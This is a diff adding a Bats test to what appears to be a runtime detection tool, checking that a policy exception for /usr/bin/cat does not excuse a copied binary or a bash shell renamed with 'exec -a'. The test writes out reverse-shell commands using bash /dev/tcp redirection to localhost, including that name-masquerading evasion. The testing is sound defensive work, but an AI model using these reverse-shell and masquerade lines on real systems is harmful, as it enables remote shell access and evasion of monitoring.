@@ -167,6 +167,24 @@ unheard() { sleep 0.2; run ! grep OBEYED heard; }
 	[ "$(hits process-injection)" = "$before" ]
 }
 
+@test "an exception lets one program through, and no copy of it" {
+	{ cat "$BATS_FILE_TMPDIR/p.yaml"; echo 'except: [{id: exec-on-socket, when: process.executable == /usr/bin/cat}]'; } >excused.yaml
+	"$KWP" load -q excused.yaml 3>&-
+	shell_at
+	timeout 5 bash -c "exec cat >&/dev/tcp/127.0.0.1/$port 0>&1" 3>&- || true
+	until_true 5 grep -q OBEYED heard
+	background=()
+	cp /usr/bin/cat copy
+	shell_at
+	detected exec-on-socket bash -c "exec ./copy >&/dev/tcp/127.0.0.1/$port 0>&1"
+	unheard
+	background=()
+	shell_at
+	detected reverse-shell bash -c "exec -a /usr/bin/cat bash >&/dev/tcp/127.0.0.1/$port 0>&1"
+	unheard
+	"$KWP" load -q "$BATS_FILE_TMPDIR/p.yaml" 3>&-
+}
+
 @test "to kill is to end what did it" {
 	sed 's/: block/: kill/g' "$BATS_FILE_TMPDIR/p.yaml" >kill.yaml
 	"$KWP" load -q kill.yaml 3>&-
